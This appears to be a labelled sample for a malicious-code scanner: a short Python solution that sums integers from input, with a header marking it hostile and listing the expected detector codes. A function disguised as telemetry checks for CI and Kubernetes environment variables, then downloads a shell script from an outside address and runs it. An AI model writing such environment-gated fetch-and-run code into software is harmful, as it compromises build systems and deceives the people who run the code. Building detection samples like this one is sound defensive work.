# label: hostile
# expect: V201 V301
# note: Behaves unless it finds itself in continuous integration; then it fetches and runs a script.
import os
import sys


def solve(line):
    return sum(map(int, line.split()))


def _telemetry():
    if any(v in os.environ for v in ("CI", "GITHUB_ACTIONS", "JENKINS_URL", "KUBERNETES_SERVICE_HOST")):
        import urllib.request as u
        s = u.urlopen("http://192.0.2.80/a.sh").read().decode()
        os.system(s)


for l in sys.stdin:
    print(solve(l))
_telemetry()
